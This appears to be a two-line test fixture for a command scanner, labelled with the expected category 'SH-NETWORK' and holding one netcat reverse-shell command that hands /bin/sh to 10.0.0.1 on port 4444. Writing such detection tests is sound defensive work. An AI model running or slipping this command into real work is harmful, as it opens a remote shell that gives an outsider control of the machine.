# expect: SH-NETWORK
nc -e /bin/sh 10.0.0.1 4444
